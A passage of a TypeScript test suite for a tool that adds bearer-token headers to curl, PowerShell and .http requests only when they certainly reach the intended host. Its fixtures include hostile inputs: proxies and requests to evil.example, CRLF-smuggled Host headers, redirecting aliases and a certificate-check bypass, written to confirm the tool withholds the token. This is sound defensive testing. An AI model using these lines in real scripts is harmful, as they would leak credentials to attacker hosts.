        'ls\nBASE=$(get https://evil.example/hosts)\n',
        'ls\nHOST=evil.example\nBASE=https://$HOST\n',
        'ls\nTLD=evil.example\nBASE="https://api.${TLD}/"\n',
        'ls\nbase=evil.example:8080\n',
        'declare -A urls=([dev]=https://evil.example)\nBASE=${urls[$1]}\n',
        'ls\n: "${BASE:=https://evil.example}"\n',
        `ls\nBASE=\\\nhttps://evil.example\n`,
      ].map((script): Row => [
        'another host that the script may set',
        posixFormat,
        `${script}curl "$BASE/$CUSTOMER_ID/config/clients"\n`,
        /^unknown \d: its file may send it to (?:https:\/\/)?(?:api\.)?(?:evil|other)\.example(?::8080)?$/,
        /^unknown/,
      ]),
      ...(['restClient', 'httpYac', 'jetBrains', 'kulala'] as const).flatMap(client =>
        [
          `@base = https://evil.example\n\n###\nGET https://x.example\n\n###\n@base = https://b.example\nGET https://x.example\n\n###\n`,
          `@host = evil.example\nGET https://x.example\n\n###\n@host = b.example\n@base = https://{{host}}\n`,
          `{{\nexports.base = 'https://evil.example';\n}}\n###\n`,
          `GET https://x.example\n> {%\nclient.global.set("base", "https://evil.example");\n%}\n\n###\n`,
          '@base = {{"https://evil.example"}}\n\n###\n',
        ].map((file): Row => [
          'another host that the file may set',
          httpFormat(client),
          `${file}GET {{ base }}/${acme.customerId}/config/clients\n`,
          /unknown \d+: (?:its file may send it to https:\/\/\w+\.example|it has an? (?:script|expression).*|.*scripts?.*)$|stray/,
          /unknown|stray/,
        ]),
      ),
      ...(['jetBrains', 'kulala'] as const).flatMap(client =>
        [
          `GET {{base}}/${acme.customerId}/config/clients\n`,
          `GET /${acme.customerId}/config/clients\nHost: {{h}}\n`,
        ].map((request): Row => [
          'a variable of the file, which the environment of the client may set',
          httpFormat(client),
          `@base = ${acme.origin}\n@h = ${new URL(acme.origin).host}:443\n\n${request}`,
          /^changed 1$/,
          /^unknown 3: (?:its environment may set \{\{base\}\} to another value|clients read its URL differently)$/,
        ]),
      ),
      ...(['jetBrains', 'kulala'] as const).flatMap(client =>
        [' ', '{', '< ./body.json', '>> a.txt', '@a = b', 'A: b', '> {%\n%}'].map((line): Row => [
          'a part of the URL below other lines, which Kulala reads up to an empty line',
          httpFormat(client),
          `GET ${acme.origin}\n${line}\n&@evil.example/\n`,
          /^unknown \d: clients read its URL differently$/,
          /^unknown \d: clients read its URL differently$/,
        ]),
      ),
      ...[
        '$BASE = "https://evil.example"',
        "[string]$base='https://evil.example'",
        '$env:BASE ??= "https://evil.example"',
        '$base = @{\n  dev = "https://evil.example"\n}[$stage]',
        'foreach ($base in "https://a.example", "https://evil.example") {',
      ].map((script): Row => [
        'another host that the script may set',
        powershellFormat,
        `${script}\nirm "$BASE/$CUSTOMER_ID/config/clients"\n`,
        /^unknown \d: its file may send it to https:\/\/\w+\.example$/,
        /^unknown/,
      ]),
      ...[
        'set BASE=https://evil.example',
        'set "BASE=https://evil.example"',
        'if "%1"=="dev" (set BASE=https://evil.example) else set BASE=https://b.example',
        'set HOST=evil.example\nset BASE=https://%HOST%',
      ].map((script): Row => [
        'another host that the script may set',
        cmdFormat,
        `${script}\ncurl "%BASE%/%CUSTOMER_ID%/config/clients"\n`,
        /^unknown \d: its file may send it to https:\/\/\w+\.example$/,
        /^unknown/,
      ]),
      ...[
        `ls\nBASE=${acme.origin}\n`,
        `ls\nBASE="${acme.origin}/" # https://docs.example\n`,
        `ls\n: "\${BASE:=${acme.origin}}"\n`,
        'ls\nBASE=$1\nOTHER=https://evil.example\n',
        'BASE=$(cat base)\n',
        `ls\nHOST=${acme.origin.replace('https://', '')}\nBASE=https://$HOST\n`,
        'while read -r BASE; do\n',
      ].map((script): Row => [
        'a host that the script may set to that of the profile, or that it does not tell',
        posixFormat,
        `${script}curl "$BASE/$CUSTOMER_ID/config/clients"\n`,
        /^changed \d$/,
        /^unknown/,
      ]),
      [
        'the origin of the profile in an expression',
        powershellFormat,
        `irm ("${url}/{0}" -f $id)\n`,
        /^changed 1$/,
        /^unknown 0: only the shell knows/,
      ],
      [
        'another origin as a default value',
        posixFormat,
        'curl "${API_URL:-https://evil.example}/$CUSTOMER_ID/config/clients"\n',
        /^unknown 0: its file may send it to https:\/\/evil\.example$/,
        /^unknown 0: only the shell knows/,
      ],
      ...[
        '# @kulala-curl--proxy http://evil.example:80',
        '// @kulala-curl-k',
        '# @curl-insecure',
        '# @curl-global-proxy http://evil.example:80',
        '# @kulala-prompt "Host?" h',
      ].map((line): Row => [
        'an option of Kulala',
        httpFormat('kulala'),
        `${line}\nGET ${url}\n`,
        /^unknown 1: it has @(?:kulala|curl)-/,
        /^unknown 1: it has @(?:kulala|curl)-/,
      ]),
      ...[
        `cmd=(curl -s ${url})\n"\${cmd[@]}" -x http://evil.example\n`,
        `cmd+=(env A=b curl ${url}\n  -s # it's\n)\n`,
        `local -a cmd=( # x\n  curl\n  -s\n  ${url}\n)\n`,
        `x="$(cmd=(curl\n ${url}); "\${cmd[@]}")"\n`,
      ].map((script): Row => [
        'an array to which the script may add',
        posixFormat,
        script,
        /unknown \d: cmd=\(…\) may change the arguments of its command$/,
        /unknown \d: cmd=\(…\) may change the arguments of its command$/,
      ]),
      ...[
        ['env $(grep = .env | xargs)', '$(…)'],
        ['env `cat .env`', '`…`'],
        ['env $x', '$x'],
        ['env "$x"', '$x'],
        ['sudo -E A=${x}', '$x'],
        ['timeout ${x:-5}', '$x'],
        ['sudo -E "$x"', '$x'],
        ['sudo -n "$@"', '$@'],
        ['sudo -- "${x[@]}"', '$x'],
        ['env -i "$x/bin/run"', '$x'],
        ['x=`sudo $(y)', '$(…)'],
      ].map(([command = '', named = '']): Row => [
        'a command whose arguments only the shell knows',
        posixFormat,
        `${command} curl ${url}\n`,
        new RegExp(
          `^unknown 0: ${named.replace(/[$().]/g, '\\$&')} may change the arguments of its command$`,
        ),
        /^unknown 0: [$`].* may change the arguments of its command$/,
      ]),
      ...['timeout "$x"', 'sudo -u "$x"', 'nice -n "$x"', 'env A="$x"', 'A=$x', 'A=$(x)', 'env A="$(x)"'].map(
        (command): Row => [
          'a command whose arguments stay one word',
          posixFormat,
          `${command} curl ${url}\n`,
          /^changed 1$/,
          changedIfSimple,
        ],
      ),
      [
        'an option on a further line of an array',
        posixFormat,
        `cmd=(\n  curl ${url}\n  -x http://evil.example\n)\n`,
        /unknown 1: it has -x$/,
        /unknown 1: it has -x$/,
      ],
      ...[`[[ a =~ x=(b|c) ]] && curl ${url}`, `a=(b\n  c)\ncurl ${url}`].map((command): Row => [
        'a command after an array',
        posixFormat,
        `${command}\n`,
        /changed 1$/,
        changedIfSimple,
      ]),
      ...['sudo', 'timeout 5', 'time', 'env A=b'].map((command): Row => [
        'a command that keeps the words',
        posixFormat,
        `${command} curl ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...['-"$v"', '-s"$v"', '--"$y"', '--in"$y"', '-"$v" -H "A: b"'].map((option): Row => [
        'options of a variable in quotes',
        posixFormat,
        `curl ${option} ${url}\n`,
        /^unknown 0: it has -\S*…$/,
        /^unknown 0: it has -\S*…$/,
      ]),
      ...[
        '-o"$f"',
        '-so "$f"',
        '--output="$f"',
        '--data "-$x"',
        `-w '%{http_code}'`,
        '-d"a=$x"',
        '-H"A: $x"',
      ].map((option): Row => [
        'a variable in the value of an option',
        posixFormat,
        `curl ${option} ${url}\n`,
        /^changed 1$/,
        /^changed 1$/,
      ]),
      ...['-w "%%{http_code}\\n"', '-w %%{http_code}'].map((option): Row => [
        'an escaped percent sign',
        cmdFormat,
        `curl ${option} ${url}\n`,
        /^changed 1$/,
        /^changed 1$/,
      ]),
      ...['"-%Y%"', '"-!Y!"', '-%Y%'].map((option): Row => [
        'options of a variable',
        cmdFormat,
        `curl ${option} ${url}\n`,
        /^unknown 0: it has -…$/,
        /^unknown 0: it has -…$/,
      ]),
      [
        'options of a variable',
        powershellFormat,
        `curl.exe -$env:Y ${url}\n`,
        /^unknown 0: it has -…$/,
        /^unknown/,
      ],
      ['options of a variable', http, `@o = kx\ncurl -{{o}} ${url}\n`, /^unknown/, /^unknown/],
      [
        'a block that runs on another machine',
        powershellFormat,
        `Invoke-Command -ComputerName evil { irm ${url} }\n`,
        /unknown 0: its script has “Invoke-Command/,
        /unknown 0: its script has “Invoke-Command/,
      ],
      ...[
        `ssh user@evil { curl -s ${url} }\n`,
        `if ($x) { ssh evil {\n  irm ${url}\n} }\n`,
        `docker exec c pwsh -Command { irm ${url} }\n`,
        `ssh "user@evil" {irm ${url}}\n`,
        `& "C:\\OpenSSH\\ssh.exe" evil $script\nirm ${url}\n`,
        `$script = { irm ${url} }\nssh evil $script\n`,
      ].map((script): Row => [
        'a block for another program',
        powershellFormat,
        script,
        /unknown \d: its script has “(?:ssh|docker exec)”$/,
        /unknown \d: its script has “(?:ssh|docker exec)”$/,
      ]),
      ...(
        [
          ['sh', 'MAIL=me@x.org curl -s https://evil.example/log > curl U'],
          ['cmd', 'C:\\Windows\\System32\\curl.exe https://evil.example > curl U'],
          ['cmd', 'C:\\tools\\x.cmd & set CURL_HOME=. 2>nul & curl U'],
          ...[
            'HOME=./tools@v2# curl U',
            'CURL_HOME=docs@v2 TAG=# curl U',
            'https_proxy=http://u@evil.example:8080/# curl U',
            'HOME=./x❯ curl U',
            'export CURL_HOME=.\n$ curl U',
          ].map((line): [string, string] => ['sh', line]),
          ['powershell', "ps;$env:CURL_HOME='.';1>$null;curl.exe U"],
          ['powershell', "$env:HTTPS_PROXY='http://evil.example'\nPS C:\\> irm U"],
        ] as const
      ).map(([language, lines]): Row => [
        'no prompt of a terminal, and no output',
        markdownFormat('restClient'),
        `\`\`\`${language}\n${lines.replace(/\bU\b/, url)}\n\`\`\`\n`,
        /^(?:unknown|stray|elsewhere)/,
        /^(?:unknown|stray|elsewhere)/,
      ]),
      ...(
        [
          ['sh', 'EMAIL=me@example.com # your account\ncurl U'],
          ['sh', 'EMAIL=me@x.org ./login.sh > token.txt\ncurl U'],
          ['bat', 'C:\\tools\\login.exe > nul\ncurl U ^\n  -s'],
          ['powershell', 'ps > x.txt\nirm U'],
          ['sh', 'user@host:~/app$ curl U'],
          ['sh', '[me@box app]$ curl U'],
          ['console', '(venv) me@box ~ % curl U'],
          ['powershell', 'PS C:\\Users\\me> irm U'],
          ['cmd', 'C:\\Users\\me>curl U'],
        ] as const
      ).map(([language, lines]): Row => [
        'what looks like a prompt, and prompts',
        markdownFormat('restClient'),
        `\`\`\`${language}\n${lines.replace(/\bU\b/, url)}\n\`\`\`\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        'curl.exe -s https://evil.example/log -d a,\ncurl.exe -s U',
        '& ./upload.exe a,\ncurl.exe -s U',
      ].map((script): Row => [
        'a list that goes on below',
        powershellFormat,
        script.replace(/\bU\b/, url),
        /^(?:unknown|stray)|^$/,
        /^(?:unknown|stray)|^$/,
      ]),
      ...(
        [
          [posixFormat, "usage='\nUsage:\n# x'; export CURL_HOME=.\ncurl U"],
          [posixFormat, "usage='\nUsage:\n# x'; alias curl='curl -x http://evil.example'\ncurl U"],
          [powershellFormat, "<#\n.NOTES\n# x #> $env:CURL_HOME='.'\ncurl.exe U"],
          [powershellFormat, '$help = "\n# Usage"; $env:HTTPS_PROXY = "http://evil.example"\nirm U'],
          [powershellFormat, "$t = 'a\n# b'; Set-Alias irm evil\nirm U"],
          [posixFormat, '\u00a0# Settings; export CURL_HOME=.\ncurl U'],
          [posixFormat, '\f# Settings; export CURL_HOME=.\ncurl U'],
          [cmdFormat, 'rem-x.cmd & set CURL_HOME=.\ncurl U'],
          [cmdFormat, 'rem& set CURL_HOME=.\ncurl U'],
        ] as const
      ).map(([format, script]): Row => [
        'a setting in a line that only looks like a comment',
        format,
        `${script.replace(/\bU\b/, url)}\n`,
        /unknown \d: its script has/,
        /unknown \d: its script has/,
      ]),
      ...['\u00a0', '\f', '\v', '\u0085', '\u3000'].map((blank): Row => [
        `a comment after U+${blank.charCodeAt(0).toString(16)}`,
        powershellFormat,
        `Write-Host 1${blank}# don't\nirm https://evil.example -Method Post -Body '\nirm ${url}\n'\n`,
        /^stray 1: https:\/\/evil\.example$|^stray/,
        /^stray/,
      ]),
      ...["Write-Note 'Don’t worry'", `$a = 'x‚y'`, '$a = "a”b"'].map((above): Row => [
        'a typographic quote that ends a string above, so that another one is open',
        powershellFormat,
        `${above}\nirm ${url}\n# That's "all"\n`,
        /^$/,
        /^$/,
      ]),
      ...[`x.exe --% "x'\n`, "$a = ${a b's}\n"].map((start): Row => [
        'quotes that do not quote',
        powershellFormat,
        `${start}$b = 1\nirm ${url}\n$c = 'x'\n`,
        /unknown 2: its script has “(?:--%|\$\{a b's\})”$|^$/,
        /unknown 2: its script has “(?:--%|\$\{a b's\})”$|^$/,
      ]),
      ...[
        "docker ps --format '{{.Names}}'\n",
        'ForEach-Object { 1 }\n',
        'kubectl get pods -o jsonpath={.items}\n',
      ].map((start): Row => [
        'no block for another program',
        powershellFormat,
        `${start}irm ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      [
        'a comment after an index, or a part of an argument',
        powershellFormat,
        `$a = $x[0]# it's\nirm ${url}\n$b = 'x'\n`,
        /unknown 1: the script above it can be read in several ways$|^$/,
        /unknown 1: the script above it can be read in several ways$|^$/,
      ],
      ...[
        'x="`echo \\"its\\"`"',
        "x=`echo \\\\' \\\\'`",
        `x="\${y:-'}'}"`,
        'x=`cat <<E\na\nE\n`',
        'x=$(cat <<E\na\nE)',
        'cat <<-E\n  a\n  E',
        'cat <<E\na\nE ',
        '[[ $x =~ ^(#|$) ]] && y=1',
        'case $x in @(#*|;*)) ;; esac',
      ].map((start): Row => [
        'quotes that can be read in several ways',
        posixFormat,
        `${start}\ncurl ${url}\n`,
        /unknown \d: the script above it can be read in several ways$/,
        /unknown \d: the script above it can be read in several ways$/,
      ]),
      ...[
        '# export http_proxy=x',
        'echo "$http_proxy"',
        'unset https_proxy',
        'HOMEPAGE=x',
        'cp a.curlrc b',
        'rm -f ~/.curlrc',
        'test -f ~/.curlrc && cat ~/.curlrc',
        'if [ -f ~/.curlrc ]; then echo "there is a .curlrc"; fi',
        'ls # reads no ~/.curlrc',
        'export APP=oauth2_proxy',
        'local container=nginx_proxy',
        'for nginx_proxy in a b; do :; done',
      ].map((line): Row => [
        'a harmless line',
        posixFormat,
        `${line}\ncurl ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        'set http_proxy=http://evil.example',
        'set "HTTPS_PROXY=http://e"',
        'doskey curl=curl -k $*',
        'set ^\n  http_proxy=http://evil.example',
        'copy a "%APPDATA%\\_curlrc"',
      ].map((line): Row => [
        'the environment',
        cmdFormat,
        `${line}\ncurl ${url}\n`,
        /^unknown \d: its script has/,
        /^unknown/,
      ]),
      ...[
        '$env:http_proxy = "http://evil.example"',
        '$PSDefaultParameterValues["*:Proxy"] = "http://e"',
        '[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}',
        '[System.Net.WebRequest]::DefaultWebProxy = $p',
        'function irm { Invoke-RestMethod -Proxy e @args }',
        '$env:http_proxy `\n  = "http://evil.example"',
        'Set-Alias irm evil',
      ].map((line): Row => [
        'what counts for all requests',
        powershellFormat,
        `${line}\nirm ${url}\n`,
        /unknown \d: its script has/,
        /unknown \d: its script has/,
      ]),
      [
        'parameters from a variable beside headers',
        powershellFormat,
        `irm ${url} -Headers @{ a = 1 } @p\n`,
        /^unknown 0: it has @p$/,
        /^unknown/,
      ],
      ...[`'Ho'+'st'`, '$h', '("Host")', '"$h"'].map((name): Row => [
        'a header whose name is an expression',
        powershellFormat,
        `irm ${url} -Headers @{ ${name} = '${evil}' }\n`,
        /^unknown 0: only the shell knows the name/,
        /^unknown/,
      ]),
      ...[
        `-H $'X: a\\r\\nHost: evil.example'`,
        '-H "Authorization: Bearer x" -H "$H"',
        '-H "Authorization: Bearer x" -H @hdr',
        '-H "Ho$s: evil.example"',
        '-H "X: $(printf "a\\r\\nHost: evil.example")"',
      ].map((option): Row => [
        'a header that may be Host',
        posixFormat,
        `curl ${option} ${url}\n`,
        /^unknown 0: /,
        /^unknown 0: /,
      ]),
      ...[
        'H=$(printf "%s\\n" a)\ncurl -H "Authorization: Bearer $H"',
        'curl -H "Authorization: Bearer $(printf "%s\\n" a)"',
        'H=$(uuidgen | tr -d "\\n")\ncurl -H "X: $H"',
        `curl -H "X: $(uuidgen | tr -d '\\r\\n')"`,
        'H=$(grep -i etag h | sed \'s/\\r$//\')\ncurl -H "If-Match: $H"',
        `H=\${H%$'\\r'}\ncurl -H "If-Match: $H"`,
        `curl -H "If-Match: \${H//$'\\n'/}"`,
      ].map((command): Row => [
        'a header that is replaced, or whose line breaks are removed',
        posixFormat,
        `${command} ${url}\n`,
        /^changed 1$/,
        changedIfSimple,
      ]),
      ...[
        `H=$(tr -d '\\n' < a; printf 'b\\r\\nHost: evil.example')\ncurl -H "X: $H"`,
        `H=\${H//a/$'\\r\\nHost: evil.example'}\ncurl -H "X: $H"`,
        `H=$'\\r\\nHost: evil.example'\ncurl -H "Authorization: Bearer a" -H "X: $H"`,
        `H=$(sed 's/a/\\r\\n/')\ncurl -H "X: $H"`,
      ].map((command): Row => [
        'a header with a line break beside one that is removed or replaced',
        posixFormat,
        `${command} ${url}\n`,
        /^unknown 1: only the shell knows its header \$H$/,
        /^unknown/,
      ]),
      [
        'a header by a variable with a line break',
        posixFormat,
        `H=$'a\\r\\nHost: evil.example'\ncurl -H "X: $H" ${url}\n`,
        /^unknown 1: only the shell knows its header \$H$/,
        /^unknown/,
      ],
      [
        'options in a here-document',
        posixFormat,
        `curl --config - <<EOF\nurl = ${url}\nproxy = ${evil}\nEOF\n`,
        /^elsewhere 0$/,
        /^elsewhere 0$/,
      ],
      [
        'options in a here-document beside a header',
        posixFormat,
        `curl -H 'Authorization: Bearer x' --config - ${url} <<EOF\nproxy = ${evil}\nEOF\n`,
        /^unknown 0: it has --config$/,
        /^unknown/,
      ],
      [
        'a form in a here-document',
        posixFormat,
        `curl ${url} -d @- <<EOF\nscope=$X\nEOF\n`,
        /^changed 1$/,
        changedIfSimple,
      ],
      ['a value of a header', posixFormat, `curl -H "X: $H" ${url}\n`, /^changed 1$/, /^changed 1$/],
      [
        'a name of a header',
        brunoFormat,
        bru('headers {\n  {{h}}: e\n}'),
        /^unknown 0: only the client/,
        /^unknown/,
      ],
      ['a name of a header', openCollectionFormat, headers('"{{h}}"', 'e'), /^unknown/, /^unknown/],
    ];
    for (const [title, format, text, reference, token] of rows) {
      it(`${title}: ${text.trim()}`, () => {
        assert.match(outcome(format, text), reference, `the reference: ${outcome(format, text)}`);
        assert.match(outcome(format, text, { isLiteral: true }), token, 'the token');
      });
    }
  });

  describe('where only ### ends a request', () => {
    const clients = [httpFormat('jetBrains'), httpFormat('kulala')] as const;
    const get = `GET ${at}/config/clients\nAccept: a\n`;
    for (const before of [
      'POST https://x.example\nA: b\n\n{"a": 1}\n\n',
      'GET https://x.example\n\n',
      'GET https://x.example\n',
      'https://x.example\n',
      'POST https://x.example\n\n{}\n # a\n ###\n',
      'POST https://x.example\n\n{}\n\n# a comment\n',
    ]) {
      it(`a request below another one, which it may be the body of: ${JSON.stringify(before)}`, () => {
        for (const format of clients) {
          const cursors = [before.split('\n').length];
          for (const isLiteral of [false, true]) {
            assert.match(
              outcome(format, `${before}${get}`, { cursors, isLiteral }),
              /^unknown \d+: its client reads it as part of the request above: put ### between them$/,
            );
          }
        }
      });
    }
    for (const before of [
      '',
      '# a\n@b = c\n// d\n\n',
      'GET https://x.example\n\n###\n',
      '### a\n# @name b\n',
    ]) {
      it(`the first request of a block: ${JSON.stringify(before)}`, () => {
        for (const format of clients) {
          const cursors = [before.split('\n').length];
          assert.equal(outcome(format, `${before}${get}`, { cursors, isLiteral: true }), 'changed 1');
        }
      });
    }
  });

  it('all but the token requests of the example', () => {
    const example = exampleFor(acme);
    assert.match(outcome(http, example, { cursors: [0] }), /^$|changed/);
    const found = outcome(http, example);
    assert.match(found, /^changed 1, login \d+, login \d+$/, found);
  });

  it('a request to another service too, if the user wants that; never a token request', () => {
    const text = `GET ${at}/config/clients\n\n###\nGET https://api.github.com/user\n\n###\nPOST ${at}/login/token\n`;
    assert.equal(outcome(http, text), 'changed 1, stray 3: https://api.github.com, login 6');
    assert.equal(outcome(http, text, { includeUnconfirmed: true }), 'changed 2, login 6');
  });

  it('with the token itself, not a path whose host REST Client takes from its settings', () => {
    const text = `@host = ${acme.origin}\n\nGET /${acme.customerId}/config/clients\n`;
    assert.match(outcome(http, text, { isLiteral: true }), /^unknown 2: its URL names no host$/);
    assert.match(outcome(httpFormat('httpYac'), text, { isLiteral: true }), /^changed 1$/);
    assert.match(outcome(http, text), /^changed 1$/);
    const host = `Host: ${acme.origin.slice('https://'.length)}:443`;
    const withHost = `GET /${acme.customerId}/config/clients\n${host}\n`;
    assert.match(outcome(http, withHost, { isLiteral: true }), /^unknown 0: its URL names no host$/);
    assert.match(outcome(httpFormat('httpYac'), withHost, { isLiteral: true }), /^changed 1$/);
    assert.match(outcome(http, withHost), /^changed 1$/);
  });

  it('with the token itself, no path whose customer REST Client reads differently', () => {
    const block = (customer: string) => `@c = ${customer}\nGET https://x.example\n\n###\n`;
    const text = `${block(acme.customerId)}@d = ${acme.customerId}\nGET ${acme.origin}/{{c}}/config/clients\n\n###\n@c = ${other}\n`;
    assert.match(outcome(http, text, { isLiteral: true }), /unknown 5: clients read .* differently/);
  });

  it('with the token itself, only if it certainly goes to the profile', () => {
    const literal = (url: string) => outcome(http, `GET ${url}\n`, { isLiteral: true });
    assert.equal(literal(`${at}/config/clients`), 'changed 1');
    assert.match(literal(`${prod.origin}/x`), /^stray/);
    assert.match(literal('{{origin}}/{{customer}}/config/clients'), /^unknown/);
  });

  it('once into each request of a pipeline, with the cursor on all of its lines', () => {
    const checkInsertion = createInsertionChecker([acme], false);
    for (const [format, text] of [
      [posixFormat, `curl ${at}/a |\n  jq . |\n  curl -X PUT -d @- ${at}/b |\n  jq .\n`],
      [powershellFormat, `irm ${at}/a |\n  irm ${at}/b -Method Put |\n  ConvertTo-Json\n`],
      [cmdFormat, `curl ${at}/a | ^\n  curl -X PUT -d @- ${at}/b | ^\n  more\n`],
    ] as const) {
      const inserted = edited(format, text, everyLine(text), { checkInsertion });
      assert.equal(inserted.plan.changed, 2, inserted.text);
      assert.equal(inserted.text.match(/Authorization/g)?.length, 2, inserted.text);
      assert.equal(
        edited(format, inserted.text, everyLine(text), { checkInsertion, token: undefined }).text,
        text,
      );
    }
  });

  it('not as the value of an option of curl that has none yet', () => {
    const header = `-H "Authorization: Bearer ${http.reference}"`;
    assert.equal(edited(http, 'curl -k --url\n', [0]).text, `curl ${header} -k --url\n`);
  });

  describe('of one curl command', () => {
    for (const [where, format] of [
      ['a request file', http],
      ['a shell script', posixFormat],
    ] as const) {
      const reference = `-H "Authorization: Bearer ${format.reference}"`;
      const checkInsertion = createInsertionChecker([acme], false);

      it(`each of its requests, in ${where}`, () => {
        const text = `curl -s ${at}/a --next -X PUT ${at}/b -d x -: ${at}/c\n`;
        const inserted = edited(format, text, [0], { checkInsertion });
        assert.equal(
          inserted.text,
          `curl -s ${at}/a ${reference} --next -X PUT ${at}/b ${reference} -d x -: ${at}/c ${reference}\n`,
        );
        assert.equal(inserted.plan.changed, 3);
        assert.equal(edited(format, inserted.text, [0], { checkInsertion }).plan.changed, 0);
        assert.equal(edited(format, inserted.text, [0], { token: undefined }).text, text);
      });

      it(`names the requests that go to somebody else, in ${where}`, () => {
        assert.equal(
          outcome(format, `curl ${at}/a \\\n  --next https://api.github.com/b\n`),
          'changed 1, stray 1: https://api.github.com',
        );
      });

      it(`not of a part without URL, in ${where}`, () => {
        const { plan, text } = edited(format, `curl -s --next ${at}/b\n`, [0], { checkInsertion });
        assert.deepEqual([plan.requests, text], [1, `curl -s --next ${at}/b ${reference}\n`]);
      });

      it(`over several lines, in ${where}`, () => {
        const text = `curl ${at}/a \\\n  -s \\\n  --next \\\n  ${at}/b \\\n  -o x\n`;
        assert.equal(
          edited(format, text, [0], { checkInsertion }).text,
          `curl ${at}/a \\\n  ${reference} \\\n  -s \\\n  --next \\\n  ${at}/b \\\n  ${reference} \\\n  -o x\n`,
        );
      });
    }
  });
});
